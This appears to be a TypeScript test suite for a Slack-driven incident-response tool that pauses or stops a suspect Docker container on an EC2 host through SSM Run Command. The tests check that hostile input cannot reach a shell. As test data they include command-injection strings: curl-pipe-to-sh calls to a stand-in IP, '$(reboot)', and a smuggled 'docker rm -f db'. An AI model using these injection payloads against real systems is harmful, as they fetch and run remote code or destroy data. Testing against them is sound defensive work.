/**
 * A standalone container (Docker on an EC2 host) from its Container card, end to end: docker
 * pause through SSM Run Command with the output in the thread, stop as the fallback, a host SSM
 * cannot reach, and a hostile container id that must never reach a shell.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { changesSince, instanceFindingEvent, publishFinding, RESPONDER, startInstanceWorld, type InstanceWorld } from '../helpers/instance-world.js';
import { cardButtons, cardText, openPlan, runAction, submitAndSettle, threadText } from '../helpers/slack-interactions.js';

const CID = '9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b';

async function containerOnHost(w: InstanceWorld, opts: { ssm?: 'online' | 'lost' | 'none'; containerId?: string; containerName?: string } = {}) {
  const host = w.aws.seed.instance({ ssm: opts.ssm ?? 'online', name: 'ops-docker-01' });
  const { event, findingId } = instanceFindingEvent({
    aws: w.aws,
    instanceId: host.instanceId,
    fixture: 'container-standalone',
    ...(opts.containerId !== undefined ? { containerId: opts.containerId } : {}),
    ...(opts.containerName !== undefined ? { containerName: opts.containerName } : {}),
  });
  await publishFinding(w.h, event);
  return { host, findingId };
}

const sendCommands = (w: InstanceWorld) =>
  w.aws
    .callsTo('ssm:SendCommand')
    .map((c) => c.params as { DocumentName: string; InstanceIds: string[]; Parameters: { commands: string[] }; Comment?: string });

test('pause container: docker pause of exactly the validated container id through SSM Run Command, its output in the thread, the card says paused', async (t) => {
  const w = await startInstanceWorld();
  t.after(() => w.close());
  const { aws, h } = w;
  // The name GuardDuty reports is attacker-influenced too: it must not reach the command line.
  const { host, findingId } = await containerOnHost(w, { containerName: 'legacy-cron; curl -s http://203.0.113.9/x | sh' });
  aws.ssm.setOutcome(host.instanceId, { status: 'Success', stdout: `${CID}\n`, responseCode: 0 }, 'pause');
  assert.deepEqual(
    (await cardButtons(h, findingId)).map((b) => b.action_id.split(':')[1]),
    ['isolate_instance', 'pause_container'],
    'a Container card: pause, and the host-level isolation',
  );
  const mark = aws.calls.length;

  const modal = await openPlan(h, { findingId, action: 'pause_container', user: RESPONDER });
  assert.equal(modal.submit, 'Pause');
  assert.ok(modal.text.includes(`docker pause ${CID} on host ${host.instanceId} (docker stop if pause fails), through SSM Run Command`));
  assert.match(modal.text, /A paused container keeps its memory/);
  assert.deepEqual(changesSince(aws, mark), [], 'nothing sent before confirming');

  await submitAndSettle(h, { runId: modal.runId, user: RESPONDER, reason: '$(curl -s http://203.0.113.9/y | sh) miner' });

  const sent = sendCommands(w);
  assert.equal(sent.length, 1, 'paused: no stop');
  assert.equal(sent[0]!.DocumentName, 'AWS-RunShellScript');
  assert.deepEqual(sent[0]!.InstanceIds, [host.instanceId]);
  assert.deepEqual(sent[0]!.Parameters.commands, [`docker pause ${CID}`], 'the one command line: the verb and the validated id, nothing else');
  assert.deepEqual(aws.ssm.commandsSentTo(host.instanceId), [`docker pause ${CID}`]);
  assert.doesNotMatch(JSON.stringify(sent[0]), /curl|legacy-cron|203\.0\.113/, 'neither the container name nor the reason reaches SSM');

  const thread = await threadText(h, findingId);
  assert.ok(thread.includes(`Pause container* done — container ${CID} paused`));
  assert.ok(thread.includes(`docker pause → Success (exit 0); stdout: ${CID}`), 'the command output is in the thread');
  for (const c of aws.callsTo('ssm:SendCommand')) assert.ok(thread.includes(c.requestId));
  assert.match(await cardText(h, findingId), /:double_vertical_bar: Container paused/);
});

test('pause fails → docker stop: both outputs in the thread, honest "partly done", the card says stopped; when stop fails too, it says so and points to the instance actions', async (t) => {
  const w = await startInstanceWorld();
  t.after(() => w.close());
  const { aws, h } = w;
  const { host, findingId } = await containerOnHost(w);
  aws.ssm.setOutcome(
    host.instanceId,
    {
      status: 'Failed',
      stderr: 'Error response from daemon: Cannot pause container: OCI runtime pause failed: cgroups v1 freezer not mounted',
      responseCode: 1,
    },
    'pause',
  );
  aws.ssm.setOutcome(host.instanceId, { status: 'Success', stdout: `${CID}\n`, responseCode: 0 }, 'stop');

  await runAction(h, { findingId, action: 'pause_container', user: RESPONDER, reason: 'miner' });

  assert.deepEqual(aws.ssm.commandsSentTo(host.instanceId), [`docker pause ${CID}`, `docker stop ${CID}`]);
  const thread = await threadText(h, findingId);
  assert.ok(thread.includes(`Pause container* partly done — pause failed, container ${CID} stopped instead`));
  assert.match(thread, /docker pause → Failed \(exit 1\); stderr: Error response from daemon: Cannot pause container: OCI runtime pause failed/);
  assert.ok(thread.includes(`docker stop → Success (exit 0); stdout: ${CID}`));
  assert.match(thread, /pause failed \(Failed\); trying docker stop/, 'progress says what happens next');
  assert.match(thread, /The container is stopped \(its memory is lost\)/);
  assert.match(await cardText(h, findingId), /:octagonal_sign: Container stopped/);

  const other = await containerOnHost(w);
  aws.ssm.setOutcome(other.host.instanceId, { status: 'Failed', stderr: 'Error: No such container', responseCode: 1 });
  await runAction(h, { findingId: other.findingId, action: 'pause_container', user: RESPONDER, reason: 'miner' });
  const failed = await threadText(h, other.findingId);
  assert.ok(failed.includes(`Pause container* failed — neither pause nor stop worked on ${CID}`));
  assert.match(failed, /docker stop → Failed \(exit 1\); stderr: Error: No such container/);
  assert.match(failed, /Use the instance actions: isolating the host cuts off every container on it/);
  assert.match(await cardText(h, other.findingId), /Container could not be paused or stopped/);
});

test('host with no SSM agent (not registered, or connection lost): the plan says so, cannot be submitted, points to the instance actions, and nothing is sent', async (t) => {
  const w = await startInstanceWorld();
  t.after(() => w.close());
  const { aws, h } = w;
  for (const [ssm, says] of [
    ['none', 'has no SSM agent registered'],
    ['lost', 'has an SSM agent that is ConnectionLost'],
  ] as const) {
    const { host, findingId } = await containerOnHost(w, { ssm });
    const modal = await openPlan(h, { findingId, action: 'pause_container', user: RESPONDER });
    assert.equal(modal.submit, undefined, `${ssm}: no submit button`);
    assert.ok(modal.text.includes(`the host ${host.instanceId} ${says}, so the responder cannot reach the container`), modal.text);
    assert.match(modal.text, /Use the instance actions instead \(Isolate instance cuts off every container on the host\)/);
    await submitAndSettle(h, { runId: modal.runId, user: RESPONDER, reason: 'forged submit of a blocked plan' });
    assert.ok(
      (await cardButtons(h, findingId)).some((b) => b.action_id.endsWith('isolate_instance')),
      'the instance action it points to is on the card',
    );

    const isolate = await openPlan(h, { findingId, action: 'isolate_instance', user: RESPONDER });
    assert.match(isolate.text, /Every container on this host loses its network, not only the compromised one/);
  }
  assert.equal(aws.callsTo('ssm:SendCommand').length, 0);
  assert.equal(aws.ssm.invocations.size, 0);
});

test('a hostile container id from the finding never reaches a shell: the plan refuses it before any AWS call, and a forged submit sends nothing', async (t) => {
  const w = await startInstanceWorld();
  t.after(() => w.close());
  const { aws, h } = w;
  const mark = aws.calls.length;
  for (const containerId of [
    `${CID.slice(0, 12)}; curl -s http://203.0.113.9/x | sh`,
    '$(reboot)',
    '--privileged',
    `${CID}\ndocker rm -f db`,
    'a'.repeat(200),
  ]) {
    const { findingId } = await containerOnHost(w, { containerId });
    const modal = await openPlan(h, { findingId, action: 'pause_container', user: RESPONDER });
    assert.equal(modal.submit, undefined, JSON.stringify(containerId));
    assert.match(modal.text, /The container reference is not a Docker container id \(12 to 64 hex characters\) or name/);
    await submitAndSettle(h, { runId: modal.runId, user: RESPONDER, reason: 'forged' });
  }
  assert.deepEqual(
    aws.calls.slice(mark).filter((c) => c.service === 'ssm'),
    [],
    'no SSM call at all: not even DescribeInstanceInformation',
  );
  assert.equal(aws.ssm.invocations.size, 0);
});
